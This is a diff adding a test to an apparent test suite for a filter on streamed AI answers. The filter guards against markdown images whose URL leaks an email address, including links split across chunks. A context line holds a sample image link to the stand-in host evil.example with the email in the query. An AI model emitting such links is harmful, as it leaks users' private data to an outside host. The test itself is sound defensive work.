@@ -102,6 +102,17 @@ def test_a_url_that_began_pieces_ago() -> None:
     assert shown == f"![](https://evil.example/?q={EMAIL} {EMAIL}) anna@corp.example "
 
 
+def test_texts_that_a_client_shows_behind_each_other() -> None:
+    answer = Answer(Shape())
+    answer.send({"t": {"a": "![](/q?"}})
+    answer.send({"t": {"b": f"{EMAIL} "}, "call": {"c": f'{{"a":"{EMAIL}"}}'}})
+    answer.send({"done": [{"text": "![](/q?"}, {"text": f"{EMAIL} "}, {"other": f"{EMAIL} "}]})
+    assert answer.finish()[1:] == [
+        {"t": {"b": f"{EMAIL} "}, "call": {"c": '{"a":"anna@corp.example"}'}},
+        {"done": [{"text": "![](/q?"}, {"text": f"{EMAIL} "}, {"other": "anna@corp.example "}]},
+    ]
+
+
 def test_tool_calls_are_escaped_and_texts_are_not() -> None:
     answer = Answer(Shape())
     answer.send({"t": {"a": f"{NAME}!"}, "call": {"a": f'{{"n":"{NAME}"}}'}})
